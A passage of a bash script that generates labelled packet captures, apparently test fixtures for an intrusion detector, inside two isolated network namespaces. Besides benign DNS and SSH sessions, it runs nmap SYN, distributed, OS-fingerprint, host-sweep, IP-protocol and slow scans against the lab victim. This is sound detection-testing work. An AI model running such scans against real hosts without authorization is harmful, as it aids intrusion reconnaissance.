		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +noall +answer -f "$q" | wc -l | sed "s/^/    round $i: answer lines: /"
		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +short -x 10.77.0.2 >/dev/null
		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +short -x 10.77.0.1 >/dev/null
	done
	snp_in_a dig @"$SNP_IP_V" +tcp +tries=1 +time=2 +short www.home.test A | sed 's/^/    tcp: /'
	snp_in_a dig @"$SNP_IP_V" +tcp +tries=1 +time=2 +short home.test TXT | sed 's/^/    tcp: /'
	snp_in_a dig @"$SNP_IP6_V" +tries=1 +time=2 +short www.home.test AAAA | sed 's/^/    ipv6: /'
	snp_in_a dig @"$SNP_IP6_V" +tries=1 +time=2 +short nas.home.test A | sed 's/^/    ipv6: /'
	cap_stop
	kill -TERM "$dns_pid" 2>/dev/null || true
	wait "$dns_pid" 2>/dev/null || true
	snp_log "  $(tshark -n -r "$OUT/benign-dns.pcap" -Y 'dns.flags.response == 0' 2>/dev/null | wc -l) queries"
	finish benign-dns.pcap
}

# --- SSH with a password typo -------------------------------------------------------------------
# The victim's sshd runs in its own mount namespace where /etc/passwd and /etc/shadow carry one
# extra user (snoopy, password SSH_USER_PASSWORD): see start_sshd. The host's files are untouched.
rec_benign_ssh_password_pcap() {
	local i
	snp_require_tools sshpass
	tcpdump_start benign-ssh-password.pcap
	for ((i = 1; i <= 5; i++)); do ssh_session; done
	ssh_password_login wrong-password-typo && snp_die "the wrong password was accepted"
	echo "    wrong password: refused (as it should be)"
	ssh_password_login "$SSH_USER_PASSWORD" || snp_die "the right password was refused"
	cap_stop
	finish benign-ssh-password.pcap
}

ssh_password_login() { # PASSWORD — one password login as snoopy from the attacker namespace
	snp_in_a timeout 30 sshpass -p "$1" ssh -F /dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no \
		-o NumberOfPasswordPrompts=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
		"snoopy@$SNP_IP_V" 'id -un; uptime' 2>"$SNP_TMP/ssh-pw.err" | sed 's/^/    password login: /'
	return "${PIPESTATUS[0]}"
}

# --- scans beyond one source and one target --------------------------------------------------
# Extra addresses live on the namespaces' own veth ends: still nothing leaves the two namespaces.
DIST_SOURCES=(10.77.0.11 10.77.0.12 10.77.0.13 10.77.0.14 10.77.0.15 10.77.0.16)
rec_nmap_distributed_pcap() {
	local ip i=0 pids=() pid
	for ip in "${DIST_SOURCES[@]}"; do ip -n "$SNP_NS_A" addr add "$ip/24" dev "$SNP_IF_A"; done
	tcpdump_start nmap-distributed.pcap
	# The first source takes 14 ports (the most probes: the alert names it), then five more scan
	# 9 ports each at the same time. -S spoofs nothing: each address is on the attacker's veth.
	nmap_a -Pn -n -sS -T4 -S "${DIST_SOURCES[0]}" -e "$SNP_IF_A" -p 1-14 "$SNP_IP_V"
	for ip in "${DIST_SOURCES[@]:1}"; do
		snp_in_a nmap -Pn -n -sS -T4 -S "$ip" -e "$SNP_IF_A" -p "$((15 + i * 9))-$((23 + i * 9))" "$SNP_IP_V" >/dev/null 9>&- &
		pids+=($!)
		i=$((i + 1))
	done
	for pid in "${pids[@]}"; do wait "$pid" || snp_die "nmap $pid failed"; done
	cap_stop
	for ip in "${DIST_SOURCES[@]}"; do ip -n "$SNP_NS_A" addr del "$ip/24" dev "$SNP_IF_A"; done
	snp_log "  $(tshark -n -r "$OUT/nmap-distributed.pcap" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' -T fields -e ip.src 2>/dev/null | sort | uniq -c | tr -s ' \n' ' ')(SYNs per source)"
	finish nmap-distributed.pcap
}

rec_nmap_os_pcap() {
	tcpdump_start nmap-os.pcap
	# 22 and 80 are open, 443 closed: nmap needs one of each for its T1-T7 probes.
	snp_in_a timeout 300 nmap -Pn -n -O --max-os-tries 1 -p 22,80,443 "$SNP_IP_V" | sed -n '/^PORT\|open\|closed\|OS\|Device\|Running/s/^/    /p'
	cap_stop
	finish nmap-os.pcap
}

SWEEP_PREFIX=10.77.0
SWEEP_FIRST=100
SWEEP_LAST=131
rec_nmap_host_sweep_pcap() {
	local h
	for ((h = SWEEP_FIRST; h <= SWEEP_LAST; h++)); do ip -n "$SNP_NS_V" addr add "$SWEEP_PREFIX.$h/24" dev "$SNP_IF_V"; done
	tcpdump_start nmap-host-sweep.pcap
	# --send-ip: ICMP echo instead of ARP pings (the hosts share the attacker's subnet).
	snp_in_a timeout 120 nmap -n -sn -PE --send-ip "$SWEEP_PREFIX.$SWEEP_FIRST-$SWEEP_LAST" | sed -n '/Nmap done/s/^/    /p'
	nmap_a -n -Pn -sS -T4 -p 22 "$SWEEP_PREFIX.$SWEEP_FIRST-$SWEEP_LAST"
	cap_stop
	for ((h = SWEEP_FIRST; h <= SWEEP_LAST; h++)); do ip -n "$SNP_NS_V" addr del "$SWEEP_PREFIX.$h/24" dev "$SNP_IF_V"; done
	finish nmap-host-sweep.pcap
}

rec_nmap_ipproto_pcap() {
	tcpdump_start nmap-ipproto.pcap
	nmap_a -Pn -n -sO -T4 --max-retries 0 "$SNP_IP_V"
	cap_stop
	finish nmap-ipproto.pcap
}

# Source of the derived nmap-slow.pcap: 40 ports at 2 a second (about 20 s of wall time).
rec_nmap_scan_delay_pcap() {
	tcpdump_start nmap-scan-delay.pcap
	nmap_a -Pn -n -sS --scan-delay 500ms --max-retries 0 -p 1-40 "$SNP_IP_V"
	cap_stop
	finish nmap-scan-delay.pcap
}

# ---------------------------------------------------------------------------------------------
# Main

mkdir -p "$FIX"
snp_log "setting up namespaces $SNP_NS_A and $SNP_NS_V"
snp_setup_netns
OUT=$SNP_TMP/out
mkdir -p "$OUT"
chmod 777 "$OUT"
start_sshd
snp_start_http
snp_log "victim services up: sshd :22, http.server :80"

for name in "${RECORD[@]}"; do
	fn=rec_${name//[-.]/_}
	"$fn"
done
# Derived fixtures are rebuilt from what was just recorded (no traffic involved).
snp_log "deriving ${DERIVED_FIXTURES[*]} (scripts/derive-fixtures.sh)"
bash "$HERE/derive-fixtures.sh" | sed 's/^/    /'

write_manifest
print_summary
